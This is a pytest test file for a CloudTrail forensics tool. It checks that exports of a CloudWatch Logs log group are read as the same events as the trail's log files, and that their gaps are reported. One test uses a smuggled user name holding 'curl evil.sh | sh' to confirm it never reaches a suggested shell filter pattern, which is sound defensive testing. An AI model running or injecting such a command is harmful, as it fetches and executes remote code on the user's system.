"""A trail's CloudWatch Logs copy (the export an analyst actually has) read as the log files' events.

Many organisations send their trail to a CloudWatch Logs log group, and the copy an analyst can
search quickly is that group: ``aws logs filter-log-events --filter-pattern '{ $.userIdentity.
accessKeyId = "AKIA…" }' > key.json``. A case folder holding only such a file said ``not
CloudTrail records (a JSON object with keys ['events', 'searchedLogStreams'])`` and COULD NOT
LOOK (exit 3): the events were lost although each ``message`` is the record's JSON. Now every
shape a log group is exported in is read as the same events (same frame, copies beside log files
dropped), and what each shape cannot show is said: a message that is not a record (counted,
named), a cut answer, one log stream, Logs Insights rows without ``@message``, a query cut by
its limit or not complete, an answer every event of which is one key's (scoped, as a
LookupEvents answer for one key is), the events CloudWatch Logs cannot hold.

The fixtures are the sample case's records wrapped as botocore's ``logs`` model says
(:mod:`tests.cwlogs_export`, each answer validated against it).
"""

from __future__ import annotations

import gzip
import json
import shutil
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from tests.cli_run import run
from tests.cwlogs_export import (
    export_to_s3,
    filter_log_events,
    get_log_events,
    message,
    query_results,
    stream,
)
from tests.offline_regions import SAMPLE_REGIONS
from torinvest.case import sample_case
from torinvest.errors import EXIT_COULD_NOT_LOOK, DataIssue
from torinvest.events import load_activity
from torinvest.options import EngineOptions
from torinvest.paged import next_token_problem
from torinvest.pivot import PARTIAL, load_ip_pivot
from torinvest.sniff import sniff
from torinvest.sources.logs import load_logs
from torinvest.sources.logs.coverage import read_elsewhere
from torinvest.sources.records import LookupScope, records_in

KEY = "AKIATFQR7NSCUXC3DDDP"
MINTED = ["AKIATFQR7NSCXLGMGTIH", "ASIATFQR7NSCNGEI5QNT"]
TOR_IPS = ["109.70.100.66", "185.220.101.34"]
START, END = "2023-07-09", "2023-07-11"
LOGS = sample_case().root / "cloudtrail"


def _records() -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    for path in sorted(LOGS.rglob("*.json.gz")):
        out += json.loads(gzip.decompress(path.read_bytes()))["Records"]
    return out


RECORDS = _records()
#: the stream most of the sample's records are in (get-log-events and an S3 export are of one)
STREAM = max({stream(r) for r in RECORDS}, key=lambda s: sum(stream(r) == s for r in RECORDS))


def _json(doc: dict[str, Any]) -> bytes:
    return json.dumps(doc).encode()


#: each shape: the file name an analyst gives it (none named like a log file: sniffed), its
#: bytes for some records, and whether it is of one stream (get-log-events, an S3 export)
SHAPES: dict[str, tuple[str, Callable[[list[dict[str, Any]]], bytes], bool]] = {
    "filter-log-events": ("key-events.out", lambda rs: _json(filter_log_events(rs)), False),
    "get-log-events": ("stream.txt", lambda rs: _json(get_log_events(rs)), True),
    "get-query-results": ("insights-results", lambda rs: _json(query_results(rs)), False),
    "create-export-task": ("000000.gz", export_to_s3, True),
}


def _write(folder: Path, shape: str, records: list[dict[str, Any]]) -> Path:
    name, build, one_stream = SHAPES[shape]
    if one_stream:
        records = [r for r in records if stream(r) == STREAM]
    where = (
        folder / "exportedlogs" / "3f0b5c1e-task" / STREAM
        if shape == "create-export-task"
        else folder
    )
    where.mkdir(parents=True, exist_ok=True)
    (where / name).write_bytes(build(records))
    return where / name


@pytest.fixture(scope="module")
def from_logs() -> pd.DataFrame:
    """The sample's log files read as they are: the frame every copy must give."""
    return load_logs([LOGS]).frame


def _rows(frame: pd.DataFrame, ids: Sequence[str] | None = None) -> pd.DataFrame:
    """A frame's rows (those of ``ids``) without where they were read from, by event ID."""
    if ids is not None:
        frame = frame[frame["event_id"].isin(ids)]
    rows = frame.drop(columns=["source", "origin"]).astype(object)
    return rows.sort_values("event_id").reset_index(drop=True)


@pytest.mark.parametrize("shape", list(SHAPES))
def test_each_shape_gives_the_log_files_rows_under_any_name(
    tmp_path: Path, shape: str, from_logs: pd.DataFrame
) -> None:
    path = _write(tmp_path, shape, RECORDS)
    res = load_logs([tmp_path])
    ids = [r["eventID"] for r in RECORDS if not SHAPES[shape][2] or stream(r) == STREAM]
    assert len(res.frame) == len(ids) > 100
    pd.testing.assert_frame_equal(_rows(res.frame), _rows(from_logs, ids))
    assert set(res.frame["origin"].astype(str)) == {str(path)}
    assert res.counts.log_group_copies == {str(path): shape}
    one_stream = [i.problem for i in res.issues if "one page of ONE log stream" in i.problem]
    if shape == "get-log-events":  # its tokens are always there: one stream, not "cut"
        (said,) = one_stream
        assert f"region {STREAM.rsplit('_', 1)[1]}" in said
        assert not any("is cut" in i.problem for i in res.issues)
    else:
        assert res.issues == []


def test_a_copy_beside_the_log_files_adds_no_row_and_no_conflict(
    tmp_path: Path, from_logs: pd.DataFrame
) -> None:
    (tmp_path / "logs").symlink_to(LOGS, target_is_directory=True)
    (tmp_path / "cwlogs.json").write_bytes(_json(filter_log_events(RECORDS)))
    (tmp_path / "insights.json").write_bytes(_json(query_results(RECORDS[:500])))
    res = load_logs([tmp_path], regions=list(SAMPLE_REGIONS))  # its regions: none missing
    assert res.issues == []
    pd.testing.assert_frame_equal(_rows(res.frame), _rows(from_logs))
    assert len(res.counts.log_group_copies) == 2


@pytest.mark.parametrize("engine", ["files", "duckdb"])
def test_a_whole_copy_answers_the_key_and_the_pivot_as_the_log_files_do(
    tmp_path: Path, engine: str
) -> None:
    keys = [r for r in RECORDS if r["userIdentity"].get("accessKeyId") == KEY]
    others = [r for r in RECORDS if r["userIdentity"].get("accessKeyId") != KEY][:400]
    data = [dict(r, eventCategory="Data") if i == 7 else r for i, r in enumerate(others)]
    (tmp_path / "cwlogs.json").write_bytes(_json(filter_log_events(keys + data)))
    options = EngineOptions(kind=engine)
    act = load_activity(logs=[tmp_path], access_key=KEY, start=START, end=END, engine=options)
    assert act.issues == []
    assert sorted(act.frame["event_id"]) == sorted(r["eventID"] for r in keys)
    assert act.file_counts is not None
    assert act.file_counts.data_events == 1  # a data event in a message is counted
    assert act.file_counts.lookup_scoped == {}  # every caller's: no scope
    pivot = load_ip_pivot(TOR_IPS, logs=[tmp_path], start=START, end=END, engine=options)
    assert pivot.status != PARTIAL
    assert not any("other callers" in i.problem for i in pivot.issues)
    if engine == "files":
        res = load_logs([tmp_path], access_keys=[KEY])
        assert res.files_matched == 1  # the key's bytes are escaped in a message: \"AKIA…\"


def _event(text: str, n: int) -> dict[str, Any]:
    return {
        "logStreamName": "2023/07/10/[$LATEST]0f3c",
        "timestamp": 1688990000000 + n,
        "message": text,
        "ingestionTime": 1688990090000 + n,
        "eventId": f"3770746684681393739140546609393462745286604693212328{n:04d}",
    }


def test_messages_that_are_not_records_are_counted_and_named_and_the_rest_read(
    tmp_path: Path,
) -> None:
    doc = filter_log_events(RECORDS[:200])
    big = dict(RECORDS[0], requestParameters={"policy": "x" * 300_000})
    cut = message(big)[: 256 * 1024 - 26]  # what a sender cut at CloudWatch Logs' event limit
    doc["events"][50:50] = [
        _event("START RequestId: 8f5c Version: $LATEST", 1),
        _event('{"level":"info","msg":"not a trail record"}', 2),
        _event(cut, 3),
    ]
    (tmp_path / "cwlogs.json").write_text(json.dumps(doc))
    res = load_logs([tmp_path])
    assert len(res.frame) == 200  # nothing valid beside them is lost
    (issue,) = res.issues
    assert issue.problem.startswith("3 of 203 log events are not CloudTrail records (eventId ")
    assert "0001: not JSON" in issue.problem
    assert "0002: not a CloudTrail record" in issue.problem
    assert "0003: not JSON, 262,118 bytes: cut at CloudWatch Logs' 256 KB limit" in issue.problem
    assert res.counts.with_issues == {str(tmp_path / "cwlogs.json"): issue.problem}
    assert "with log events that are not records" in res.counts.describe()


def test_a_log_group_of_other_logs_is_not_read_and_says_why(tmp_path: Path) -> None:
    lines = ["START RequestId: 8f5c Version: $LATEST", "END RequestId: 8f5c"]
    doc = {"events": [_event(t, n) for n, t in enumerate(lines)], "searchedLogStreams": []}
    (tmp_path / "lambda.json").write_text(json.dumps(doc))
    res = load_logs([tmp_path])
    assert res.frame.empty
    (issue,) = res.issues
    assert issue.unread
    assert "none of whose 2 log events is a CloudTrail record" in issue.problem
    assert "export the trail's own log group" in issue.problem
    assert res.counts.read == 0


def test_a_cut_filter_log_events_answer_says_so_as_other_cut_answers_do(tmp_path: Path) -> None:
    doc = filter_log_events(RECORDS[:300], next_token="f/3770746684681393739140546/s")
    (tmp_path / "cut.json").write_text(json.dumps(doc))
    res = load_logs([tmp_path])
    assert len(res.frame) == 300
    (issue,) = res.issues
    assert issue.problem == next_token_problem(doc, "events")
    assert issue.problem.startswith("the export is cut: it holds the first 300 of its events")


def _insights(doc: dict[str, Any]) -> tuple[list[dict[str, Any]], list[str]]:
    return records_in(doc, where="results.json")


def test_insights_rows_without_message_cannot_be_records_and_say_to_add_it() -> None:
    fields = ("@timestamp", "eventName", "sourceIPAddress")
    with pytest.raises(Exception, match="without @message") as refused:
        _insights(query_results(RECORDS[:40], fields=fields))
    assert "add @message to the query's fields" in refused.value.hint  # type: ignore[attr-defined]

    doc = query_results(RECORDS[:40])
    doc["results"] += query_results(RECORDS[40:45], fields=fields)["results"]
    records, problems = _insights(doc)
    assert len(records) == 40
    assert problems[0].startswith("5 of 45 Logs Insights rows have no @message")


@pytest.mark.parametrize("status", ["Running", "Timeout", "Cancelled"])
def test_insights_results_of_a_query_not_complete_are_partial(status: str) -> None:
    records, problems = _insights(query_results(RECORDS[:30], status=status))
    assert len(records) == 30
    (problem,) = problems
    assert problem.startswith(f"the query's status is {status}, not Complete")


def test_insights_results_cut_by_the_query_limit_say_so() -> None:
    _, problems = _insights(query_results(RECORDS[:25], matched=640))
    (problem,) = problems
    assert problem.startswith(
        "the results are cut: the query matched 640 log events and its results hold 25 rows"
    )
    assert _insights(query_results(RECORDS[:25]))[1] == []  # matched what it holds: whole

    doc = query_results(RECORDS[:1])
    doc["results"] *= 10_000  # the rows a query without a limit returns at most
    del doc["statistics"]  # nothing says how many it matched
    records, problems = _insights(doc)
    assert len(records) == 10_000
    (problem,) = problems
    assert problem.startswith("the results may be cut: they hold exactly 10,000 rows")


@pytest.mark.parametrize(
    ("shape", "engine"),
    [
        ("filter-log-events", "files"),
        ("filter-log-events", "duckdb"),
        ("get-query-results", "files"),
        ("create-export-task", "duckdb"),
    ],
)
def test_a_copy_of_one_keys_events_is_scoped_as_a_lookup_answer_for_it(
    tmp_path: Path, shape: str, engine: str
) -> None:
    keys = [r for r in RECORDS if r["userIdentity"].get("accessKeyId") == KEY]
    if shape == "create-export-task":  # one stream: the key's calls in it
        keys = [r for r in keys if stream(r) == STREAM]
    name, build, _ = SHAPES[shape]
    (tmp_path / name).write_bytes(build(keys))
    act = load_activity(
        logs=[tmp_path],
        access_key=KEY,
        start=START,
        end=END,
        follow_derived=True,
        engine=EngineOptions(kind=engine),
    )
    assert sorted(d.access_key_id for d in act.derived) == MINTED
    (problem,) = [i.problem for i in act.issues if "the key minted" in i.problem]
    assert f"every one of its {len(keys)} event(s) is of AccessKeyId {KEY}, and nothing" in problem
    assert "CloudWatch Logs" in problem
    assert f"--filter-pattern '{{ $.userIdentity.accessKeyId = \"{MINTED[0]}\" }}'" in problem
    assert not act.complete
    if shape == "filter-log-events":
        pivot = load_ip_pivot(
            TOR_IPS, logs=[tmp_path], start=START, end=END, engine=EngineOptions(kind=engine)
        )
        assert pivot.status == PARTIAL
        assert any("other callers from these addresses" in i.problem for i in pivot.issues)


@pytest.mark.parametrize("engine", ["files", "duckdb"])
def test_what_a_log_group_cannot_hold_is_said_once(tmp_path: Path, engine: str) -> None:
    _write(tmp_path, "filter-log-events", RECORDS[:100])
    _write(tmp_path, "get-query-results", RECORDS[100:200])

    def activity() -> Any:
        return load_activity(
            logs=[tmp_path], start=START, end=END, engine=EngineOptions(kind=engine)
        )

    act = activity()
    said = [a for a in act.asides if "copy of the trail's CloudWatch Logs log group" in a]
    assert said == [
        "2 file(s) read are a copy of the trail's CloudWatch Logs log group: CloudTrail does not "
        "send an event larger than 256 KB to CloudWatch Logs, and every record read from them "
        "is of event version 1.05 or later, which CloudTrail keeps within 256 KB: none is "
        "missing for that"
    ]
    assert not any("CloudWatch Logs" in n for n in act.notes)

    old = [dict(r, eventVersion="1.04") for r in RECORDS[200:210]]  # before CloudTrail's cap
    _write(tmp_path / "old", "filter-log-events", old)
    act = activity()
    (note,) = [n for n in act.notes if "CloudWatch Logs log group" in n]
    assert note.startswith("3 file(s) read are a copy of the trail's CloudWatch Logs log group")
    assert "some records read from them are of an event version before 1.05" in note


@pytest.mark.parametrize("shape", list(SHAPES))
def test_each_shape_is_sniffed_as_cloudtrail(shape: str) -> None:
    _, build, _ = SHAPES[shape]
    found = sniff(build(RECORDS[:20])[:65536])
    assert found is not None
    assert found.kind == "cloudtrail"
    lambda_logs = {"events": [_event("START RequestId: 8f5c", 1)], "searchedLogStreams": []}
    assert sniff(_json(lambda_logs)) is None  # another log group's: passed over as before


def test_the_reported_case_now_reads_the_events(tmp_path: Path) -> None:
    """The report's reproduction: a case folder whose cloudtrail/ holds one filter-log-events
    export of the key's events was COULD NOT LOOK (exit 3)."""
    folder = tmp_path / "case" / "cloudtrail"
    folder.mkdir(parents=True)
    keys = [r for r in RECORDS if r["userIdentity"].get("accessKeyId") == KEY]
    (folder / "cwlogs.json").write_text(json.dumps(filter_log_events(keys)))
    code, _, err = run(
        "events", "--logs", str(folder), "--access-key", KEY, "--start", START, "--end", END,
        "--out", str(tmp_path / "events.parquet"),
    )  # fmt: skip
    assert code != EXIT_COULD_NOT_LOOK, err
    assert "not CloudTrail records" not in err
    assert len(pd.read_parquet(tmp_path / "events.parquet")) == len(keys)


def test_a_user_name_never_lands_inside_a_suggested_filter_pattern() -> None:
    """A copy scoped to one user name: the name is someone's text (quotes, a shell command), so
    the filter pattern suggested to export another's events shows ``VALUE`` in its place."""
    scope = LookupScope("Username", "x' }'; curl evil.sh | sh; '", 3, "filter-log-events")
    hint = scope.how(scope.attribute, scope.value)
    assert hint.endswith("""--filter-pattern '{ $.userIdentity.userName = "VALUE" }'""")
    assert scope.how("AccessKeyId", KEY).endswith(f'accessKeyId = "{KEY}" }}\'')


def test_pages_saved_one_a_line_are_cut_only_when_the_last_has_a_token(tmp_path: Path) -> None:
    pages = [
        filter_log_events(RECORDS[:100], next_token="f/1/s"),
        filter_log_events(RECORDS[100:150]),
    ]
    (tmp_path / "pages.jsonl").write_text("\n".join(json.dumps(p) for p in pages))
    res = load_logs([tmp_path])
    assert len(res.frame) == 150
    assert res.issues == []

    pages[1]["nextToken"] = "f/2/s"
    (tmp_path / "pages.jsonl").write_text("\n".join(json.dumps(p) for p in pages))
    (issue,) = load_logs([tmp_path]).issues
    assert "line 2: the export is cut: it holds the first 50 of its events" in issue.problem


def test_what_a_log_group_answers_and_exports_through_boto3_is_read(
    moto: str, tmp_path: Path, from_logs: pd.DataFrame
) -> None:
    """The shapes made by a log group itself (moto's, through boto3 as the AWS CLI calls it),
    not by this module: the records put in one stream, its filter-log-events and
    get-log-events answers saved, an export task's objects downloaded from S3 (its
    ``aws-logs-write-test`` object beside them). CloudWatch Logs takes events of the last 14
    days only: each event's timestamp is of today, its message the 2023 record."""
    import boto3

    logs = boto3.client("logs", region_name="us-east-1")
    s3 = boto3.client("s3", region_name="us-east-1")
    group = "aws-cloudtrail-logs-123837392027-0f3c"
    records = sorted((r for r in RECORDS if stream(r) == STREAM), key=lambda r: r["eventTime"])
    records = records[:300]
    now = int(pd.Timestamp.now(tz="UTC").timestamp() * 1000) - 3_600_000
    logs.create_log_group(logGroupName=group)
    logs.create_log_stream(logGroupName=group, logStreamName=STREAM)
    put = logs.put_log_events(
        logGroupName=group,
        logStreamName=STREAM,
        logEvents=[{"timestamp": now + i, "message": message(r)} for i, r in enumerate(records)],
    )
    assert "rejectedLogEventsInfo" not in put

    def saved(answer: dict[str, Any]) -> bytes:  # as `--output json` writes it
        answer.pop("ResponseMetadata", None)
        return json.dumps(answer).encode()

    pages = logs.get_paginator("filter_log_events").paginate(logGroupName=group)
    every = {"events": [e for p in pages for e in p["events"]], "searchedLogStreams": []}
    (tmp_path / "filtered.json").write_bytes(saved(every))
    one = logs.get_log_events(logGroupName=group, logStreamName=STREAM, startFromHead=True)
    (tmp_path / "stream.json").write_bytes(saved(one))
    s3.create_bucket(Bucket="exports")
    logs.create_export_task(
        logGroupName=group, fromTime=now - 1, to=now + 1000, destination="exports",
        destinationPrefix="cwl",
    )  # fmt: skip
    for obj in s3.list_objects_v2(Bucket="exports")["Contents"]:
        path = tmp_path / "s3" / obj["Key"]
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(s3.get_object(Bucket="exports", Key=obj["Key"])["Body"].read())
    assert any(p.name == "000000.gz" for p in (tmp_path / "s3").rglob("*"))

    ids = [r["eventID"] for r in records]
    for name in ("filtered.json", "stream.json", "s3"):
        res = load_logs([tmp_path / name])
        pd.testing.assert_frame_equal(_rows(res.frame), _rows(from_logs, ids))
        assert len(res.counts.log_group_copies) == 1, name
        stream_issue = [i for i in res.issues if "one page of ONE log stream" in i.problem]
        assert [i.problem for i in res.issues if i not in stream_issue] == [], name
        assert len(stream_issue) == (name == "stream.json")


@pytest.mark.parametrize("engine", ["files", "duckdb"])
def test_an_export_standing_in_for_a_region_the_trail_folder_lacks_is_counted_in_its_issue(
    tmp_path: Path, engine: str
) -> None:
    """A trail folder without eu-west-1, and a CloudWatch Logs export holding that region's
    events: they are read (kept: a partial result), and the region's issue says how many and
    from which file — it said "its events, if any, were not read" though they were. The export
    does not show the time it covers: the issue stays, saying the others were not read."""
    shutil.copytree(LOGS, tmp_path / "ct")
    for folder in list((tmp_path / "ct").rglob("eu-west-1")):
        shutil.rmtree(folder)
    account = "218007301253"  # the folder's: an export of its trail's log group holds its own
    records = [
        dict(r, recipientAccountId=account) for r in RECORDS if r["awsRegion"] == "eu-west-1"
    ]
    export = tmp_path / "ct" / "cwlogs.json"
    export.write_bytes(_json(filter_log_events(records)))
    act = load_activity(
        logs=[tmp_path / "ct"], access_key=KEY, start=START, end=END,
        regions=["eu-west-1", "us-east-1"], engine=EngineOptions(kind=engine),
    )  # fmt: skip
    assert (act.frame["origin"].astype(str) == str(export)).sum() == 2
    (issue,) = [i for i in act.issues if "eu-west-1" in i.problem]
    assert issue.source == f"{tmp_path}/ct/AWSLogs/{account}/CloudTrail/"
    assert issue.problem == (
        "no folder for region(s) eu-west-1: no log file of that region here at all; 2 event(s) "
        f"sought in that region were read from other files ({export}: 2), which do not show the "
        "time they cover: its other events, if any, were not read"
    )


def test_events_of_another_account_do_not_stand_for_a_folders_region() -> None:
    """Only the folder's account's events (or events that name none) are counted for its
    region; a trail log file is never an "other file"; an issue already amended is kept."""
    folder = "/c/AWSLogs/111111111111/CloudTrail/"
    lacking = DataIssue(
        folder,
        "no folder for region(s) ap-south-1, eu-north-1: no log file of those regions here at "
        "all, so its events, if any, were not read",
    )
    frame = pd.DataFrame(
        {
            "origin": ["/c/x.json", "/c/x.json", "/c/y.jsonl", "/c/z.json", folder + "t.json.gz"],
            "aws_region": ["ap-south-1", "ap-south-1", "eu-north-1", "ap-south-1", "eu-north-1"],
            "recipient_account_id": ["111111111111", None, "111111111111", "222222222222", None],
        }
    )
    frame.loc[4, "origin"] = (
        "/c/AWSLogs/111111111111/CloudTrail/eu-north-1/2023/07/10/"
        "111111111111_CloudTrail_eu-north-1_20230710T1145Z_a.json.gz"
    )
    (said,) = read_elsewhere([lacking], [frame])
    assert said.problem.endswith(
        "those regions here at all; 3 event(s) sought in those regions were read from other "
        "files (ap-south-1: 2 (/c/x.json: 2); eu-north-1: 1 (/c/y.jsonl: 1)), which do not show "
        "the time they cover: their other events, if any, were not read"
    )
    assert read_elsewhere([said], [frame]) == [said]
    other = DataIssue(
        "/c/AWSLogs/333333333333/CloudTrail/",
        "no folder for region(s) eu-north-1: no log file of that region here at all, so its "
        "events, if any, were not read",
    )
    assert read_elsewhere([other], [frame]) == [other]
